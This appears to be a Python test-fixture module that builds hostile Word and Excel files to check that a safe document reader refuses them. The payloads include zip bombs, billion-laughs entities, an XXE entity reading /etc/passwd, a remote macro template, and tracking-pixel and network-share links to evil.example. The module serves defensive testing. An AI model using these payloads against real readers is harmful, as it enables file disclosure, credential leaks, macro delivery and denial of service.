"""
Hostile Office files, built by the tests themselves from a plain workbook and a plain Word document.

Each `Attack` rewrites the parts of a harmless file into one that a safe reader must refuse:
decompression bombs, entity expansion, external entities, DTDs where nobody looks, macros,
external links and embedded objects, relationship types that only end like a safe one,
far cells, huge sheets, damaged archives. ``expect`` is a pattern the refusal must match, so
a reader that fails for another reason does not pass. Nothing here is real data: the base
files are built with openpyxl and python-docx, and every attack is made of placeholders.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from functools import cache
from typing import Final

__all__ = ["ATTACKS", "Attack", "base", "built", "rezip"]

R: Final = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MAIN: Final = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml"}
MAIN_RELS: Final = {"docx": "word/_rels/document.xml.rels", "xlsx": "xl/_rels/workbook.xml.rels"}
DTD_REFUSED: Final = "declares a DTD or entities"


@cache
def base(kind: str) -> bytes:
    """A plain, harmless workbook or Word document, as bytes."""
    data = io.BytesIO()
    if kind == "xlsx":
        import openpyxl

        book = openpyxl.Workbook()
        sheet = book.active
        sheet.title = "Data"
        sheet.append(["id", "name", "score"])
        for number in range(1, 4):
            sheet.append([f"P-{number:03}", f"person {number}", number])
        book.save(data)
    else:
        import docx

        document = docx.Document()
        document.add_heading("Section 1: about your organisation", level=1)
        table = document.add_table(rows=2, cols=2)
        table.cell(0, 0).text = "Organisation name"
        table.cell(1, 0).text = "Charity number"
        document.save(data)
    return data.getvalue()


def rezip(data: bytes, *, replace: Mapping[str, bytes] | None = None, add: Mapping[str, bytes] | None = None,
          drop: tuple[str, ...] = (), compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """*data* (a zip) with parts replaced, added or dropped."""
    replace = replace or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", compression) as new:
        for item in old.infolist():
            if item.filename not in drop:
                new.writestr(item.filename, replace.get(item.filename, old.read(item.filename)))
        for name, part in (add or {}).items():
            new.writestr(name, part)
    return out.getvalue()


def _part(kind: str, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(base(kind))) as archive:
        return archive.read(name)


def _with_prolog(kind: str, name: str, prolog: bytes) -> bytes:
    body = _part(kind, name)
    if body.startswith(b"<?xml"):
        body = body.split(b"?>", 1)[1]
    return rezip(base(kind), replace={name: b'<?xml version="1.0" encoding="UTF-8"?>' + prolog + body.lstrip()})


def _add_relationship(kind: str, rels: str, relationship: bytes) -> bytes:
    empty = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships '
             b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')
    text = _part(kind, rels) if rels in _names(kind) else empty
    added = text.replace(b"</Relationships>", relationship + b"</Relationships>")
    if rels in _names(kind):
        return rezip(base(kind), replace={rels: added})
    return rezip(base(kind), add={rels: added})


def _names(kind: str) -> set[str]:
    with zipfile.ZipFile(io.BytesIO(base(kind))) as archive:
        return set(archive.namelist())


def _content_type(kind: str, old: bytes, new: bytes) -> bytes:
    types = _part(kind, "[Content_Types].xml")
    assert old in types
    return rezip(base(kind), replace={"[Content_Types].xml": types.replace(old, new)})


# -- the attacks -----------------------------------------------------------------------------


def zip_bomb(kind: str) -> bytes:
    """One part of 8 MB of zeros: it inflates about a thousand times (a real bomb goes on to gigabytes)."""
    return rezip(base(kind), add={"media/padding.bin": b"\x00" * 8_000_000})


def zip_bomb_spread(kind: str) -> bytes:
    """Twenty parts just under 1 MB each: no part breaks the per-part limit, the whole inflates hundreds of times."""
    return rezip(base(kind), add={f"media/pad{i}.bin": b"\x00" * 1_000_000 for i in range(20)})


def many_parts(kind: str) -> bytes:
    """6,000 tiny parts."""
    return rezip(base(kind), add={f"custom/p{i}.txt": b"x" for i in range(6_000)})


LAUGHS: Final = (b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
                 + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                            for i in range(1, 10)) + b"]>")


def billion_laughs(kind: str) -> bytes:
    """Entity expansion in the main part: nine levels of ten, a billion "lol"s."""
    return _with_prolog(kind, MAIN[kind], LAUGHS)


def external_entity(kind: str) -> bytes:
    """XXE: an entity that reads a local file, in the main part."""
    return _with_prolog(kind, MAIN[kind], b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')


def dtd_in_rels(kind: str) -> bytes:
    """A DTD in the root relationship part (``_rels/.rels``, not named ``.xml``)."""
    return _with_prolog(kind, "_rels/.rels", b'<!DOCTYPE r [<!ENTITY e "x">]>')


def dtd_in_renamed_main_part(kind: str) -> bytes:
    """The main part renamed to ``.bin`` (content type and relationship follow it), with a DTD in it."""
    main = MAIN[kind]
    renamed = main.replace(".xml", ".bin")
    body = _part(kind, main)
    body = body.split(b"?>", 1)[1] if body.startswith(b"<?xml") else body
    types = _part(kind, "[Content_Types].xml").replace(b"/" + main.encode(), b"/" + renamed.encode())
    root = _part(kind, "_rels/.rels").replace(main.encode(), renamed.encode())
    rels_name = MAIN_RELS[kind]
    moved_rels = rels_name.replace(".xml.rels", ".bin.rels")
    return rezip(base(kind), drop=(main, rels_name), replace={"[Content_Types].xml": types, "_rels/.rels": root},
                 add={renamed: b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/hostname">]>'
                      + body, moved_rels: _part(kind, rels_name)})


def duplicate_part(kind: str) -> bytes:
    """A second ``_rels/.rels`` (in other case), with a DTD: a check that reads one part of a name misses it."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base(kind))) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for item in old.infolist():
            new.writestr(item.filename, old.read(item.filename))
        new.writestr("_rels/.RELS", b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e "x">]><Relationships/>')
    return out.getvalue()


def vba_project(kind: str) -> bytes:
    """A macro project (``vbaProject.bin``) inside a file with a plain extension."""
    folder = "word" if kind == "docx" else "xl"
    return rezip(base(kind), add={f"{folder}/vbaProject.bin": b"\xcc\x61" + b"\x00" * 62})


def macro_content_type(kind: str) -> bytes:
    """The main part declared macro-enabled (an ``.xlsm`` or ``.docm`` saved as ``.xlsx``/``.docx``)."""
    if kind == "xlsx":
        return _content_type(kind, b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                             b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    return _content_type(kind, b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                         b"application/vnd.ms-word.document.macroEnabled.main+xml")


def external_link_part(kind: str) -> bytes:
    """A link to another workbook: an externalLink part, its content type, and its external path."""
    assert kind == "xlsx"
    link = (b'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/'
            b'spreadsheetml/2006/main"><externalBook r:id="rId1" xmlns:r="' + R[:-1].encode() + b'"/></externalLink>')
    link_rels = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                 b'package/2006/relationships"><Relationship Id="rId1" Type="' + R.encode() + b'externalLinkPath" '
                 b'Target="file:///\\\\evil.example\\share\\book.xlsx" TargetMode="External"/></Relationships>')
    types = _part(kind, "[Content_Types].xml").replace(b"</Types>", (
        b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>'))
    rels = _part(kind, MAIN_RELS[kind]).replace(b"</Relationships>", (
        b'<Relationship Id="rId99" Type="' + R.encode() + b'externalLink" '
        b'Target="externalLinks/externalLink1.xml"/></Relationships>'))
    return rezip(base(kind), replace={"[Content_Types].xml": types, MAIN_RELS[kind]: rels},
                 add={"xl/externalLinks/externalLink1.xml": link,
                      "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels})


def external_target(kind: str) -> bytes:
    """A linked image fetched from a server (``TargetMode="External"`` on an image: a tracking pixel)."""
    return _add_relationship(kind, MAIN_RELS[kind], (
        b'<Relationship Id="rId98" Type="' + R.encode() + b'image" Target="http://evil.example/pixel.png" '
        b'TargetMode="External"/>'))


def attached_template(kind: str) -> bytes:
    """A remote template that Word would fetch on opening (a known way to deliver macros)."""
    assert kind == "docx"
    return _add_relationship(kind, "word/_rels/settings.xml.rels", (
        b'<Relationship Id="rId1" Type="' + R.encode() + b'attachedTemplate" '
        b'Target="http://evil.example/template.dotm" TargetMode="External"/>'))


def fake_hyperlink(kind: str) -> bytes:
    """An external relationship whose type only ends in ``/hyperlink``."""
    return _add_relationship(kind, MAIN_RELS[kind], (
        b'<Relationship Id="rId97" Type="http://evil.example/relationships/hyperlink" '
        b'Target="http://evil.example/x" TargetMode="External"/>'))


def hyperlink_to_share(kind: str) -> bytes:
    """A real hyperlink, to a network share (following it leaks the user's credentials)."""
    return _add_relationship(kind, MAIN_RELS[kind], (
        b'<Relationship Id="rId96" Type="' + R.encode() + b'hyperlink" Target="\\\\evil.example\\share" '
        b'TargetMode="External"/>'))


def _sheet(rows: bytes) -> bytes:
    return (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
            b'spreadsheetml/2006/main"><sheetData>' + rows + b"</sheetData></worksheet>")


def far_cell(kind: str) -> bytes:
    """One cell at ``XFD1048576``: 16 KB that a reader would walk as seventeen billion cells."""
    assert kind == "xlsx"
    rows = b'<row r="1"><c r="A1" t="inlineStr"><is><t>id</t></is></c></row>'
    rows += b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return rezip(base(kind), replace={"xl/worksheets/sheet1.xml": _sheet(rows)})


def huge_sheet(kind: str) -> bytes:
    """50,001 rows under a header 1,000 columns wide: readers pad every row, so fifty million cells."""
    assert kind == "xlsx"
    rows = b'<row r="1"><c r="A1"><v>1</v></c><c r="ALL1"><v>1</v></c></row>'
    rows += b"".join(b'<row r="%d"><c r="A%d"><v>%d</v></c></row>' % (i, i, i) for i in range(2, 50_002))
    return rezip(base(kind), replace={"xl/worksheets/sheet1.xml": _sheet(rows)})


def rows_beyond_excel(kind: str) -> bytes:
    """1,048,577 rows, one more than Excel allows, each with a cell (slow to check: it is read to the end)."""
    assert kind == "xlsx"
    rows = b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (i, i) for i in range(1, 1_048_578))
    return rezip(base(kind), replace={"xl/worksheets/sheet1.xml": _sheet(rows)})


def truncated(kind: str) -> bytes:
    """The first half of a real file (an interrupted download)."""
    data = base(kind)
    return data[: len(data) // 2]


def not_a_zip(kind: str) -> bytes:
    """Text saved under an Office file's name."""
    return b"name,score\nP-001,3\n"


def old_binary(kind: str) -> bytes:
    """The start of an OLE compound file: an old .xls/.doc, or an encrypted (password-protected) document."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


@dataclass(frozen=True)
class Attack:
    """One hostile file: how to build it for each kind, and the pattern its refusal must match."""

    name: str
    build: Callable[[str], bytes]
    expect: str
    kinds: tuple[str, ...] = ("docx", "xlsx")


ATTACKS: Final = (
    Attack("zip-bomb", zip_bomb, r"inflates \d+ times; this looks like a decompression bomb"),
    Attack("zip-bomb-spread", zip_bomb_spread, r"as a whole inflates \d+ times; this looks like a decompression bomb"),
    Attack("many-parts", many_parts, r"holds 6,\d{3} parts, more than the 5,000 allowed"),
    Attack("billion-laughs", billion_laughs, DTD_REFUSED),
    Attack("external-entity", external_entity, DTD_REFUSED),
    Attack("dtd-in-rels", dtd_in_rels, r"the part '_rels/\.rels' " + DTD_REFUSED),
    Attack("dtd-in-renamed-main-part", dtd_in_renamed_main_part, r"the part '(word/document|xl/workbook)\.bin' "
           + DTD_REFUSED),
    Attack("duplicate-part", duplicate_part, r"the archive holds two parts named '_rels/\.RELS'"),
    Attack("vba-project", vba_project, r"the document contains macros \(vbaProject\.bin\)"),
    Attack("macro-content-type", macro_content_type, r"the document is macro-enabled \(content type"),
    Attack("external-link-part", external_link_part, r"a link to another workbook|refers to an external", ("xlsx",)),
    Attack("external-target", external_target, r"refers to an external image \('http://evil\.example/pixel\.png'\)"),
    Attack("attached-template", attached_template, r"refers to an external attachedTemplate", ("docx",)),
    Attack("fake-hyperlink", fake_hyperlink, r"relationship type 'http://evil\.example/relationships/hyperlink'"),
    Attack("hyperlink-to-share", hyperlink_to_share, r"links to files, network shares or scripts are refused"),
    Attack("far-cell", far_cell, r"cells as far as row 1,048,576 and column XFD", ("xlsx",)),
    Attack("huge-sheet", huge_sheet, r"cells to go through, more than the [\d,]+ allowed", ("xlsx",)),
    Attack("truncated", truncated, r"the zip archive is damaged or truncated"),
    Attack("not-a-zip", not_a_zip, r"it is not a zip archive"),
    Attack("old-binary-or-encrypted", old_binary, r"older binary Office file \(\.doc, \.xls\) or a password-protected"),
)
"""Every attack, with the kinds of file it is built for."""


@cache
def built(name: str, kind: str) -> bytes:
    """The attack called *name* built for *kind*, once per test session."""
    return next(attack for attack in ATTACKS if attack.name == name).build(kind)
